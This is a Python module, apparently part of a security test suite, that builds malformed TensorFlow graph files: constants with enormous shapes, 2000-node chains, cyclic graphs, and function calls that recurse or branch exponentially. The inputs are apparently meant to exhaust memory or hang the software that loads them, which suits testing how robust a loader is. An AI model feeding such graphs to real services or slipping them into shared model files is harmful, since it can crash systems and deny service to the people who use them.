"""Graphs of TensorFlow: constants far larger than the file, chains, circles, calls without end."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from attacks.forge import put, varint

FLOAT, INT32, BOOL = 1, 3, 10
MANY = 2000


def attr(name: str, value: bytes) -> bytes:
    return put(5, put(1, name) + put(2, value))


def node(name: str, op: str, *inputs: str, **attrs: bytes) -> bytes:
    """A NodeDef in its GraphDef; attributes are encoded AttrValues."""
    body = put(1, name) + put(2, op) + b"".join(put(3, source) for source in inputs)
    return put(1, body + b"".join(attr(key, value) for key, value in attrs.items()))


def tensor(dtype: int, shape: tuple[int, ...], values: bytes) -> bytes:
    dims = b"".join(put(2, put(1, size)) for size in shape)
    return put(8, put(1, dtype) + put(2, dims) + values)


def const(name: str, shape: tuple[int, ...], number: float = 1.0) -> bytes:
    """A Const of floats, all of them one element of the file."""
    return node(name, "Const", value=tensor(FLOAT, shape, put(5, struct.pack("<f", number))))


def ints(name: str, *values: int) -> bytes:
    packed = put(7, b"".join(map(varint, values)))
    return node(name, "Const", value=tensor(INT32, (len(values),), packed))


def placeholder(name: str, *shape: int) -> bytes:
    dims = b"".join(put(2, put(1, size)) for size in shape)
    return node(name, "Placeholder", dtype=put(6, FLOAT), shape=put(7, dims))


X = placeholder("x", 1, 4)


def cases() -> Iterator[bytes]:
    for shape in ((1 << 28,), (1 << 29,), (1 << 31, 1 << 31), (1,) * 40, (-1, 4), (1 << 62, 0)):
        yield X + const("c", shape) + node("y", "Add", "x", "c")
        for op in ("BiasAdd", "Transpose", "Pad"):
            yield X + const("c", shape) + node("y", op, "x", "c")
        yield X + const("c", shape) + node("n", "Neg", "c") + node("y", "Add", "x", "n")
    one = const("one", ())
    large = ints("s", 1 << 30, 1 << 30)
    yield X + one + large + node("f", "Fill", "s", "one") + node("y", "Add", "x", "f")
    yield X + one + large + node("f", "Tile", "one", "s") + node("y", "Add", "x", "f")
    yield from _long()
    yield from _circles()
    yield from _calls()


def _long() -> Iterator[bytes]:
    """Chains, and values that all depend on all before them."""
    for op in ("Identity", "StopGradient", "Neg", "IdentityN", "PartitionedCall", "LogicalNot"):
        chain = [node(f"n{i + 1}", op, f"n{i}") for i in range(MANY)]
        yield placeholder("n0", 2) + b"".join(chain)
        yield const("n0", (2,)) + b"".join(chain) + X + node("y", "Add", "x", f"n{MANY}")
    sums = [node(f"y{i}", "Add", "x", f"n{i}") for i in range(MANY)]
    chain = [node(f"n{i + 1}", "Neg", f"n{i}") for i in range(MANY)]
    yield X + const("n0", (2,)) + b"".join(reversed(chain)) + b"".join(reversed(sums))
    yield X + node("y", "AddN", *["x"] * MANY)
    off = node("off", "Const", value=tensor(BOOL, (), put(11, b"\0")))
    switches = [node(f"s{i}", "Switch", f"m{i}", "off") for i in range(MANY)]
    merges = [node(f"m{i + 1}", "Merge", f"s{i}", f"s{i}:1") for i in range(MANY)]
    yield placeholder("m0", 2) + off + b"".join(switches) + b"".join(merges)
    yield b"".join(placeholder(f"p{i}", 1) for i in range(MANY)) + node(
        "y", "Pack", *(f"p{i}" for i in range(MANY))
    )
    yield X + b"".join(node(f"y{i}", "Foo", "x") for i in range(MANY))


def _circles() -> Iterator[bytes]:
    for op in ("Identity", "Switch", "Merge", "Neg", "PlaceholderWithDefault", "BiasAdd"):
        yield node("a", op, "b", "b") + node("b", op, "a", "a") + node("y", "Neg", "a")
        yield node("y", op, "y", "y") + node("z", "Neg", "y")
    yield node("a", "Switch", "x", "a") + X + node("y", "Merge", "a", "a:1")


def _calls() -> Iterator[bytes]:
    def function(name: str, *nodes: bytes) -> bytes:
        arguments = put(2, put(1, "a")) + put(3, put(1, "r"))
        body = put(1, put(1, name) + arguments)
        body += b"".join(put(3, item[item.index(b"\n", 1) :]) for item in nodes)
        return put(1, body + put(4, put(1, "r") + put(2, "c:output:0")))

    def calling(name: str, called: str, source: str) -> bytes:
        return node(name, "PartitionedCall", source, f=put(10, put(1, called)))

    call = X + calling("y", "f0", "x")
    twice = [
        function(f"f{i}", calling("c", f"f{i + 1}", "a"), calling("d", f"f{i + 1}", "a"))
        for i in range(64)
    ]
    yield call + put(2, b"".join(twice))
    yield call + put(2, function("f0", calling("c", "f0", "a")))
    yield call + put(2, function("f0", calling("c", "f1", "a")) * 3)
